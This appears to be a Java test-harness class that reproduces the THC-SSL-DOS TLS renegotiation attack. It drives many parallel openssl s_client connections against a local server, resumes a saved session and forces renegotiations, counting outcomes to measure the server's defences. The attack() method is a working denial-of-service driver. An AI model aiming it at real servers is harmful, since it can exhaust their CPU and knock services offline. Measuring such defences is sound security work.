package io.tlsadmit.attack.client;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicLong;

/**
 * TLS 1.2 client-initiated renegotiation, the THC-SSL-DOS pattern, with the reference client: each
 * connection is an {@code openssl s_client -tls1_2 -sess_in} that resumes a saved session (cheap, so
 * admitted on any budget) and then either quits ({@code Q}, the baseline) or renegotiates ({@code R}:
 * OpenSSL asks for a new session, i.e. a full handshake inside an admitted connection) and quits.
 *
 * <p>Why s_client and not the JDK: a JDK client invalidates its session when the server ends a
 * renegotiation it refused, so after the first refusal the JDK's later connections have nothing left
 * to resume and measure the cheap refusal of new clients instead. The saved session file is never
 * invalidated, so every connection here resumes.
 */
public final class RenegotiatingClient {
    private static final int TIMEOUT_SECONDS = 5;

    private final int port;
    private final Path caFile;
    private final Path session;

    public record Counts(long connections, long resumed, long renegotiationsAttempted, long renegotiationsCompleted,
                         long failures, double seconds) {
        public double perSecond() {
            return connections / seconds;
        }
    }

    public RenegotiatingClient(int port, Path caFile, Path workDir) {
        this.port = port;
        this.caFile = caFile;
        this.session = workDir.resolve("renegotiation.session");
    }

    /** The one full handshake that saves the session every later connection resumes. */
    public void establish() throws IOException, InterruptedException {
        Files.deleteIfExists(session);
        String out = sClient(List.of("-sess_out", session.toString()), "Q\n");
        if (!out.contains("New, ") || !Files.exists(session)) {
            throw new IOException("the first full handshake failed: " + out);
        }
    }

    /** Connect, resume, quit; {@code threads} at once for {@code seconds}. */
    public Counts baseline(int threads, double seconds) throws InterruptedException {
        return run(threads, seconds, "Q\n");
    }

    /** Connect, resume, renegotiate asking for a new session, quit. */
    public Counts attack(int threads, double seconds) throws InterruptedException {
        return run(threads, seconds, "R\nQ\n");
    }

    private Counts run(int threads, double seconds, String commands) throws InterruptedException {
        AtomicLong connections = new AtomicLong();
        AtomicLong resumed = new AtomicLong();
        AtomicLong attempted = new AtomicLong();
        AtomicLong completed = new AtomicLong();
        AtomicLong failures = new AtomicLong();
        long start = System.nanoTime();
        long end = start + (long) (seconds * 1e9);
        List<Thread> workers = new ArrayList<>();
        for (int i = 0; i < threads; i++) {
            Thread t = new Thread(() -> {
                while (System.nanoTime() < end) {
                    connections.incrementAndGet();
                    try {
                        String out = sClient(List.of("-sess_in", session.toString()), commands);
                        if (out.contains("Reused, ")) {
                            resumed.incrementAndGet();
                        }
                        int at = out.indexOf("RENEGOTIATING");
                        if (at >= 0) {
                            attempted.incrementAndGet();
                            // A completed full renegotiation verifies the server's certificate again.
                            if (out.indexOf("verify return:", at) >= 0) {
                                completed.incrementAndGet();
                            }
                        }
                    } catch (IOException e) {
                        failures.incrementAndGet();
                    } catch (InterruptedException e) {
                        Thread.currentThread().interrupt();
                        return;
                    }
                }
            }, "s_client-" + i);
            t.start();
            workers.add(t);
        }
        for (Thread t : workers) {
            t.join();
        }
        return new Counts(connections.get(), resumed.get(), attempted.get(), completed.get(), failures.get(),
                (System.nanoTime() - start) / 1e9);
    }

    private String sClient(List<String> extra, String commands) throws IOException, InterruptedException {
        List<String> command = new ArrayList<>(List.of("openssl", "s_client", "-tls1_2", "-connect", "127.0.0.1:" + port,
                "-servername", TlsDial.HOST, "-CAfile", caFile.toString()));
        command.addAll(extra);
        Process process = new ProcessBuilder(command).redirectErrorStream(true).start();
        try {
            // s_client reads its command letters once the handshake is done, one per line.
            process.getOutputStream().write(commands.getBytes(StandardCharsets.US_ASCII));
            process.getOutputStream().close();
        } catch (IOException e) {
            // it has already exited: its output says why
        }
        byte[] out = process.getInputStream().readNBytes(1 << 16);
        if (!process.waitFor(TIMEOUT_SECONDS, TimeUnit.SECONDS)) {
            process.destroyForcibly();
            throw new IOException("s_client did not finish");
        }
        return new String(out, StandardCharsets.ISO_8859_1);
    }
}
